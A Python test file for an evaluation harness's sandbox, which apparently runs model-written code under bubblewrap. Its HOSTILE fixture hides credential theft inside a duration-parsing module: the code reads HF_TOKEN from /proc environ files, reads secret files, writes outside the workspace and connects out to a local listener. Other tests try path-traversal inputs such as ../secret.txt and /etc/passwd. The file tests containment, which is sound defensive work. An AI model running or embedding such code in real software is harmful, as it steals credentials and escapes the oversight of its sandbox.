"""eval's cage: a hostile answer reads no secret, writes nothing outside its workspace and reaches no
network; the tool task's paths stay in the workspace; without bubblewrap nothing runs."""

import ast
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from podkit.client.eval import cage, load_tasks, scoring
from podkit.client.eval.harness import run_host
from podkit.client.eval.scoring import score_code
from podkit.client.eval.tools import execute_tool
from tests.helpers import ROOT

FEATURE = next(task for task in load_tasks() if task.name == "feature")

HOSTILE = '''\
Here is the whole module:

```python
"""Durations as short strings: 5400 seconds <-> "1h30m"."""

import glob
import os
import re
import socket

UNITS = (("h", 3600), ("m", 60), ("s", 1))


def format_duration(seconds):
    """5400 -> "1h30m"; 0 -> "0s"."""
    if seconds < 0:
        raise ValueError("negative duration")
    parts = []
    for name, size in UNITS:
        count, seconds = divmod(seconds, size)
        if count:
            parts.append(f"{{count}}{{name}}")
    return "".join(parts) or "0s"


def parse_duration(text):
    """The inverse of format_duration: "1h30m" -> 5400."""
    if not re.fullmatch(r"(?:\\d+[hms])+", text):
        raise ValueError(f"not a duration: {{text!r}}")
    sizes = dict(UNITS)
    return sum(int(count) * sizes[unit] for count, unit in re.findall(r"(\\d+)([hms])", text))


def _try(label, attempt):
    try:
        print(f"HOSTILE {{label}}: {{attempt()!r}}")
    except Exception as exc:
        print(f"HOSTILE {{label}} refused: {{type(exc).__name__}}")


def _tokens(path):
    entries = open(path, "rb").read().decode(errors="replace").split("\\0")
    return [entry for entry in entries if entry.startswith("HF_TOKEN=")]


_try("parent environ", lambda: _tokens(f"/proc/{{os.getppid()}}/environ"))
for _path in glob.glob("/proc/*/environ"):
    _try(_path, lambda: _tokens(_path))
_try("secret file", lambda: open({secret!r}).read())
_try("project secrets", lambda: [open(p).read() for p in glob.glob({project!r} + "/.secrets/*")])
_try("project", lambda: os.path.exists({project!r} + "/pyproject.toml") and "PROJECT_VISIBLE")
_try("write outside", lambda: open({outside!r} + "/escaped.txt", "w").write("escaped"))
_try("write home", lambda: open({home!r} + "/escaped.txt", "w").write("escaped"))
_try("connect", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"escaped"))
```
'''

CONTROLLER = """
import json, sys
from podkit.client.eval import load_tasks
from podkit.client.eval.scoring import score_code
feature = next(task for task in load_tasks() if task.name == "feature")
score, info = score_code(feature, sys.stdin.read())
print(json.dumps({"score": score, "info": info}))
"""


@pytest.mark.proc
def test_a_hostile_answer_reads_no_secret_writes_nothing_outside_and_reaches_no_network(tmp_path):
    """The finding: a `feature` answer that reads the controller's HF_TOKEN from /proc, the API key
    file, writes outside its folder and phones home. The controller runs in a child process so that
    the planted token is in its real environment, where /proc/<pid>/environ shows it."""
    token, key = "hf_" + secrets.token_hex(12), "key-" + secrets.token_hex(12)
    secret = tmp_path / "api_key"  # stands in for .secrets/api_key
    secret.write_text(key)
    secret.chmod(0o600)
    outside, home = tmp_path / "outside", tmp_path / "home"
    outside.mkdir()
    home.mkdir()
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    answer = HOSTILE.format(secret=str(secret), project=str(ROOT), outside=str(outside), home=str(home), port=port)
    env = {**os.environ, "HF_TOKEN": token, "HOME": str(home)}
    done = subprocess.run(
        [sys.executable, "-c", CONTROLLER], input=answer, env=env, cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout)
    output = result["info"]["tests"]["output"]
    assert "HOSTILE parent environ" in output and "HOSTILE secret file refused" in output, output  # it ran

    everything = done.stdout + done.stderr
    assert token not in everything and key not in everything, output
    assert "HOSTILE project: False" in output and "HOSTILE project secrets: []" in output  # no project folder
    assert list(outside.iterdir()) == [] and list(home.iterdir()) == []
    with pytest.raises(TimeoutError):
        listener.accept()
    listener.close()
    # the task's own tests still ran on the hostile module, and passed
    assert "Ran 4 tests" in output and result["info"]["tests"]["passed"] and result["score"] == 2


@pytest.mark.proc
def test_the_time_limit_ends_everything_the_answer_started(monkeypatch):
    marker = str(31_000_000 + secrets.randbelow(10**6))  # a sleep no one else runs
    monkeypatch.setattr(scoring, "LIMITS", cage.Limits(seconds=3))
    original = FEATURE.files()["durations.py"]
    slow = (
        f"import subprocess, time\nsubprocess.Popen(['sleep', '{marker}'], start_new_session=True)\ntime.sleep(120)\n"
    )
    score, info = score_code(FEATURE, f"```python\n{original}\n{slow}```\n")
    result = info["tests"]
    assert not result["passed"] and result["limits"] == ["time limit hit: the tests did not finish in 3 s"]
    assert score == 1 and info["detail"].endswith("tests fail; time limit hit: the tests did not finish in 3 s")
    deadline = time.monotonic() + 5  # the cage's processes are killed as the kernel gets to them
    while (left := sleepers(marker)) and time.monotonic() < deadline:
        time.sleep(0.1)
    for pid in left:  # tidy up after a failure: these are this test's own processes
        os.kill(pid, 9)
    assert left == [], "a process of the tests outlived the time limit"


def sleepers(marker: str) -> list[int]:
    """The processes running ``sleep <marker>``."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if cmdline.read_bytes() == f"sleep\0{marker}\0".encode():
                found.append(int(cmdline.parent.name))
        except OSError:
            continue
    return found


VIEW = "print('ROOT', sorted(os.listdir('/')), 'ETC', os.listdir('/etc'), 'ENV', sorted(os.environ))"
SYSTEM = {"bin", "sbin", "lib", "lib32", "lib64", "libx32", "usr", "etc", "dev", "proc", "tmp", "podkit"}


@pytest.mark.proc
@pytest.mark.parametrize("side", ["answer", "tests"])
def test_each_cage_sees_only_usr_python_and_its_own_folder(side):
    """The answer's cage holds /workspace (the answer's files), the tests' cage /tests (the task's
    tests) and neither the other's; the root and /dev are read-only."""
    probe = f"import os\n{VIEW}\n" + "for d in ('/', '/dev', '/usr'):\n    print('WRITE', d, os.access(d, os.W_OK))\n"
    test = "import unittest, mod\nclass View(unittest.TestCase):\n    def test_view(self):\n        mod.f()\n"
    if side == "tests":
        test = test.replace(
            "        mod.f()\n",
            "        import io, contextlib\n        out = io.StringIO()\n"
            "        with contextlib.redirect_stdout(out):\n"
            + textwrap.indent(probe, " " * 12)
            + "        self.fail(out.getvalue())\n",
        )
    module = ("def f():\n" + textwrap.indent(probe, "    ")) if side == "answer" else "def f():\n    pass\n"
    result = cage.run_tests({"mod.py": module.encode()}, {"test_view.py": test.encode()}, ["mod"], ["mod.py"])
    output = result["output"]
    root, rest = output.split("ROOT ")[1].split(" ETC ")
    own = {"answer": "workspace", "tests": "tests"}[side]
    assert set(ast.literal_eval(root)) <= SYSTEM | {own} | {Path(p).parts[1] for p in cage.python_binds()}, root
    assert own in ast.literal_eval(root)
    assert rest.startswith("['ld.so.cache'] ENV ['HOME', 'LANG', 'PATH', 'PWD', 'PYTHONDONTWRITEBYTECODE']"), rest
    assert "WRITE / False" in output and "WRITE /dev False" in output and "WRITE /usr False" in output


def test_the_cage_command_line_isolates():
    args = cage.argv(["x"], cage.Limits())
    assert {"--unshare-all", "--clearenv", "--die-with-parent", "--new-session"} <= set(args)
    assert args[args.index("--cap-drop") + 1] == "ALL"


# ---------------------------------------------------------------- the tool task's paths


@pytest.fixture
def workspace(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    (work / "config.py").write_text("X = 1\n")
    (tmp_path / "secret.txt").write_text("outside secret")
    (work / "link.py").symlink_to(tmp_path / "secret.txt")
    return work


@pytest.mark.parametrize("path", ["../secret.txt", "../x.py", "link.py", "/etc/passwd", "{outside}/secret.txt", "."])
@pytest.mark.parametrize("tool", ["read_file", "write_file"])
def test_the_tools_refuse_paths_that_leave_the_workspace(workspace, tool, path):
    path = path.format(outside=workspace.parent)
    result = execute_tool(workspace, tool, json.dumps({"path": path, "content": "overwritten"}), [])
    assert result.startswith(f"error: {path!r} is not a file of the workspace"), result
    assert "outside secret" not in result and (workspace.parent / "secret.txt").read_text() == "outside secret"
    assert not (workspace.parent / "x.py").exists()


@pytest.mark.parametrize("path", ["a\0b.py", "x" * 5000, "sub"])
@pytest.mark.parametrize("tool", ["read_file", "write_file"])
def test_the_tools_answer_an_error_for_names_the_system_refuses(workspace, tool, path):
    """A NUL byte, an overlong name or a folder: an error for the model, not a crashed eval."""
    (workspace / "sub").mkdir()
    result = execute_tool(workspace, tool, json.dumps({"path": path, "content": "x"}), [])
    assert result.startswith("error: "), result


def test_the_tools_read_a_file_that_is_not_utf8(workspace):
    (workspace / "data.py").write_bytes(b"\xff\xfe = 1\n")
    assert execute_tool(workspace, "read_file", json.dumps({"path": "data.py"}), []) == "\ufffd\ufffd = 1\n"
    absolute = str(workspace / "config.py")  # an absolute path inside the workspace is that file
    assert execute_tool(workspace, "read_file", json.dumps({"path": absolute}), []) == "X = 1\n"


# ---------------------------------------------------------------- no bubblewrap: nothing runs


def hostile_marker_answer(marker: Path) -> str:
    original = FEATURE.files()["durations.py"]
    return f"```python\n{original}\nopen({str(marker)!r}, 'w').write('ran uncaged')\n```\n"


@pytest.mark.proc
def test_without_bwrap_model_code_is_refused_with_one_line_and_never_runs(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    marker = tmp_path / "ran"
    with pytest.raises(cage.CageUnavailable) as caught:
        score_code(FEATURE, hostile_marker_answer(marker))
    message = str(caught.value)
    assert "\n" not in message and "install it (apt-get install bubblewrap" in message
    assert message.endswith("model-written code was not run")
    assert not marker.exists()


@pytest.mark.proc
def test_a_bwrap_that_cannot_create_namespaces_is_refused_and_runs_nothing(tmp_path, monkeypatch):
    shared = Path(tempfile.mkdtemp(prefix="podkit-fake-bwrap-"))  # the cage's user (nobody, as root) runs it
    shared.chmod(0o777)
    bin_dir, calls = shared / "bin", shared / "calls"
    bin_dir.mkdir()
    bin_dir.chmod(0o755)
    fake = bin_dir / "bwrap"
    fake.write_text(
        f'#!/bin/sh\necho "$@" >> {calls}\n'
        "echo 'bwrap: No permissions to create new namespace, likely because the kernel does not allow it.' >&2\n"
        "exit 1\n"
    )
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", str(bin_dir))
    marker = tmp_path / "ran"
    with pytest.raises(cage.CageUnavailable) as caught:
        score_code(FEATURE, hostile_marker_answer(marker))
    message = str(caught.value)
    assert "\n" not in message and "No permissions to create new namespace" in message
    assert "allow unprivileged user namespaces" in message
    said = calls.read_text()
    shutil.rmtree(shared)
    assert len(said.splitlines()) == 1 and "caged.py" not in said  # the probe only
    assert not marker.exists()


def test_eval_refuses_a_host_before_its_first_request_without_a_cage(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))

    def describe(*args):
        raise AssertionError("the host was contacted")

    monkeypatch.setattr("podkit.client.serverinfo.describe", describe)
    target = SimpleNamespace(name="h", settings=None, run=None, url="http://127.0.0.1:1", key="k", model="m")
    result = run_host(target, ["coding"], 1, 64, 5.0, tmp_path / "records", load_tasks())
    assert result["outcome"] == "cage" and "apt-get install bubblewrap" in result["error"]
    assert "\n" not in result["error"] and not (tmp_path / "records").exists()
